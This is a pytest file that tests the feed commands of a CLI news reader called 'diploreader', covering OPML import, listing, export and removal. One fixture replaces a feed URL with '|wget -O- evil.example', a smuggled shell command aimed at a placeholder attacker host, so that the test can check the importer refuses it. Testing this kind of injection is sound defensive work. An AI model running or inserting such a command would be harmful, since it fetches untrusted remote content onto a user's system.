"""`diploreader feed ...`, in the process of the test."""

from pathlib import Path

import pytest

from reader.errors import EXIT_FAILURE, EXIT_USAGE
from tests.cli.said import Capture, lines, objects, remarks, rows

GAZETTE = "http://gazette.example/feed"
OPML = f"""<opml version="2.0"><body>
<outline type="rss" text="Gaz\x7fette [/b]" xmlUrl="{GAZETTE}"/>
<outline type="rss" text="Ministry" xmlUrl="https://ministry.example/rss"/>
</body></opml>"""
WITH_COMMAND = OPML.replace("https://ministry.example/rss", "|wget -O- evil.example")


@pytest.fixture
def opml(tmp_path: Path) -> str:
    path = tmp_path / "feeds.opml"
    path.write_text(OPML, encoding="utf-8")
    return str(path)


def test_the_feeds_of_a_list_are_followed_once(capsys: Capture, opml: str) -> None:
    assert [(row[0], row[4]) for row in rows(capsys, "feed", "import", opml)] == [
        ("added", GAZETTE),
        ("added", "https://ministry.example/rss"),
    ]
    assert [told["outcome"] for told in objects(capsys, "feed", "import", opml)] == ["known", "known"]
    assert len(lines(capsys, "feed", "list")) == 2


def test_a_list_that_holds_commands_is_taken_without_them(capsys: Capture, tmp_path: Path) -> None:
    (tmp_path / "x").write_text(WITH_COMMAND)
    told = objects(capsys, "feed", "import", str(tmp_path / "x"), status=EXIT_FAILURE)
    assert [set(one) for one in told] == [{"outcome", "id", "title", "reason", "feed"}] * 2
    assert [one["outcome"] for one in told] == ["added", "refused"]
    assert [feed["url"] for feed in objects(capsys, "feed", "list")] == [GAZETTE]


def test_what_is_no_list_is_refused_in_one_sentence(capsys: Capture, tmp_path: Path, home: Path) -> None:
    (tmp_path / "x").write_text("no list at all")
    assert len(remarks(capsys, "feed", "import", str(tmp_path / "x"), status=EXIT_FAILURE).splitlines()) == 1
    assert len(remarks(capsys, "feed", "import", str(tmp_path / "y"), status=EXIT_FAILURE).splitlines()) == 1


def test_json_tells_everything_of_a_feed(capsys: Capture, opml: str) -> None:
    lines(capsys, "feed", "import", opml)
    feed = objects(capsys, "feed", "list")[0]
    assert feed.pop("added").endswith("+00:00")
    assert feed == {"url": GAZETTE, "title": "Gazette [/b]", "pages": False, "checked": None, "failure": None}


def test_an_exported_list_can_be_imported(capsys: Capture, opml: str, tmp_path: Path) -> None:
    lines(capsys, "feed", "import", opml)
    exported = "\n".join(lines(capsys, "feed", "export"))
    for url in (GAZETTE, "https://ministry.example/rss"):
        remarks(capsys, "feed", "remove", url)
    assert lines(capsys, "feed", "list") == []
    (tmp_path / "exported").write_text(exported, encoding="utf-8")
    assert [row[0] for row in rows(capsys, "feed", "import", str(tmp_path / "exported"))] == ["added", "added"]


def test_a_feed_that_is_removed_is_told_as_it_was(capsys: Capture, opml: str) -> None:
    lines(capsys, "feed", "import", opml)
    (removed,) = objects(capsys, "feed", "remove", GAZETTE)
    assert set(removed) == {"url", "title", "pages", "added", "checked", "failure"}
    assert "is not followed" in remarks(capsys, "feed", "remove", GAZETTE, status=EXIT_USAGE)


def test_without_feeds_it_says_how_to_follow_one(capsys: Capture) -> None:
    assert "diploreader feed add URL" in remarks(capsys, "feed", "list")
    assert remarks(capsys, "feed", "refresh") == "0 feeds read: nothing new.\n"
